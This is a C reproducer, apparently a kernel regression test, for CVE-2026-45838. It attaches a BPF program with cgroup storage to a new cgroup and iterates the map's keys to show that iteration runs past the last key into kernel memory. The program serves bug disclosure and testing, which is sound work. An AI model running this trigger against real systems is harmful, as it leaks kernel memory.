// SPDX-License-Identifier: GPL-2.0-or-later
//
// CVE-2026-45838: the keys of a BPF cgroup storage never end: behind the last comes one read from the
// map's own structure. Attaches a program with such a storage to a cgroup, so that there is one key, and
// asks for the next of each.
#include <fcntl.h>
#include <errno.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "bpf.h"

int main(void)
{
	struct bpf_cgroup_storage_key key, next;
	int map, program, group, keys = 0, more;

	attr.map_type = BPF_MAP_TYPE_CGROUP_STORAGE;
	attr.key_size = sizeof(key);
	attr.value_size = 8;
	map = bpf(BPF_MAP_CREATE);
	struct bpf_insn code[] = {
		{ .code = BPF_LD | BPF_DW | BPF_IMM, .dst_reg = 1, .src_reg = BPF_PSEUDO_MAP_FD, .imm = map },
		{ 0 },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 2 },
		{ .code = BPF_JMP | BPF_CALL, .imm = BPF_FUNC_get_local_storage },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 0, .imm = 1 },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	attr.prog_type = BPF_PROG_TYPE_CGROUP_SKB;
	attr.insns = (unsigned long)code;
	attr.insn_cnt = sizeof(code) / sizeof(code[0]);
	attr.license = (unsigned long)"GPL";
	program = bpf(BPF_PROG_LOAD);
	mkdir("/sys/fs/cgroup/bite", 0700);
	group = open("/sys/fs/cgroup/bite", O_RDONLY);
	attr.target_fd = group;
	attr.attach_bpf_fd = program;
	attr.attach_type = BPF_CGROUP_INET_EGRESS;
	if (map < 0 || program < 0 || group < 0 || bpf(BPF_PROG_ATTACH)) {
		perror("bpf");
		return 2;
	}
	do {
		attr.map_fd = map;
		attr.key = keys ? (unsigned long)&key : 0;
		attr.next_key = (unsigned long)&next;
		more = !bpf(BPF_MAP_GET_NEXT_KEY);
		key = next;
		keys += more;
	} while (more && keys < 10);
	attr.target_fd = group;
	attr.attach_type = BPF_CGROUP_INET_EGRESS;
	bpf(BPF_PROG_DETACH);
	rmdir("/sys/fs/cgroup/bite");
	printf("keys of one cgroup: %d\n", keys);
	if (!keys)
		return 2;
	return keys != 1;
}
